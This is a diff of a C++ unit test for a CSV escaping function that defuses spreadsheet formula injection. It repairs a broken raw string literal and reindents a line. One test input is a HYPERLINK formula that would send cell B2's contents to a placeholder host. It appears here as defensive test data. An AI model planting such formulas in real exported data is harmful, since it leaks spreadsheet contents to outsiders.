@@ -47,9 +47,9 @@ TEST(Csv, gives_a_spreadsheet_nothing_to_compute) {
     for (const std::string start : {"=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
         EXPECT_EQ(csv(std::string_view(start + "1")), "'" + start + "1");
     }
-    EXPECT_EQ(csv(std::string_view("=HYPERLINK(\"http://x/?\"&B2,\"ok\")")), R"("'=HYPERLINK(""http://x/?""&B2,""ok"")")
-    ");
-        EXPECT_EQ(csv(std::string_view("\t=1")), "\"'\t=1\"");
+    EXPECT_EQ(csv(std::string_view("=HYPERLINK(\"http://x/?\"&B2,\"ok\")")),
+              R"x("'=HYPERLINK(""http://x/?""&B2,""ok"")")x");
+    EXPECT_EQ(csv(std::string_view("\t=1")), "\"'\t=1\"");
     EXPECT_EQ(csv(std::string_view("\r=1")), "\"'\r=1\"");
     EXPECT_EQ(csv(std::string_view("a=1-1")), "a=1-1");
     const std::array<std::string_view, 2> texts{"=1", "x"};
